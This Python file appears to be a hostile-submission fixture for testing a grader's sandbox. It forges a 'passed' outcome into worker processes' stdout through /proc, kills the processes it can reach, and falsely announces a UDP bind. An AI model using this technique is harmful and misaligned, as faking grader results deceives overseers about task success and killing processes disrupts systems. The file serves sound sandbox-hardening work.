# Hostile: a UDP server that never binds: it forges a "passed" outcome into the test worker's stdout, then SIGKILLs every other process it can see, and sleeps.
# Where to look comes from probe.json, which the test writes into the student's folder. The
# forged outcome is what the engine read from a worker before outcomes were signed: the JSON of
# grader.job.context.Outcome. It is written once into every distinct pipe that is fd 1 of a
# process it can see (its parent's first), as a second copy would spoil the JSON.
import json
import os
import signal
import sys
import time

if 'HOSTILE-MARKER' not in sys.argv:       # the marker on its command line: what a test finds left behind
    os.execv(sys.executable, [sys.executable, '-u', sys.argv[0], 'HOSTILE-MARKER'])

PROBE = json.load(open('probe.json'))
FORGED = json.dumps({
    'status': 'passed', 'reason': '', 'notes': ['forged by HOSTILE-MARKER'], 'transcript': [],
    'server_output': '', 'client_output': '', 'bound': 'udp 127.0.0.1:9999', 'answers': {},
    'metrics': {}, 'wire': [], 'duration': 0.5, 'error': '', 'missing': '', 'timing': {}})


def parent_of(pid):
    try:
        with open('/proc/%d/stat' % pid, 'rb') as f:
            return int(f.read().rsplit(b')', 1)[1].split()[1])
    except (OSError, ValueError, IndexError):
        return 0


def alone_in_namespace():
    """True when every process in /proc lies in a PID namespace other than the grader's."""
    try:
        with open('/proc/self/status') as f:
            nspid = [line.split()[1:] for line in f if line.startswith('NSpid:')]
        return len(nspid) == 1 and len(nspid[0]) == 1 and \
            os.readlink('/proc/self/ns/pid') != PROBE['grader_pid_ns']
    except OSError:
        return False


def in_reach(pid):
    """The test's safety fence, not a courtesy of the attack: in the grader's own PID namespace
    (level none) only the test's processes (below fence_pid) are touched, never the machine's."""
    if alone_in_namespace():
        return True
    seen = set()
    while pid > 1 and pid not in seen:
        seen.add(pid)
        pid = parent_of(pid)
        if pid == PROBE['fence_pid']:
            return True
    return False


me = os.getpid()
others = sorted(int(p) for p in os.listdir('/proc') if p.isdigit() and int(p) != me)
parent = os.getppid()
targets = [p for p in [parent] + others if p in others and in_reach(p)]
targets = list(dict.fromkeys(targets))

own = set()
for fd in (1, 2):
    try:
        own.add(os.readlink('/proc/self/fd/%d' % fd))
    except OSError:
        pass
done = set(own)
for pid in targets:
    path = '/proc/%d/fd/1' % pid
    try:
        where = os.readlink(path)
        if where in done:
            continue
        with open(path, 'w') as f:
            f.write(FORGED)
        done.add(where)
        print('forged an outcome into', pid, where, flush=True)
    except OSError as e:
        print('could not forge into', pid, '-', e, flush=True)

for pid in targets:
    try:
        os.kill(pid, signal.SIGKILL)
        print('killed', pid, flush=True)
    except OSError as e:
        print('could not kill', pid, '-', e, flush=True)

print('Bind UDP on 9999', flush=True)    # not true: it never binds, never answers
while True:
    time.sleep(1)
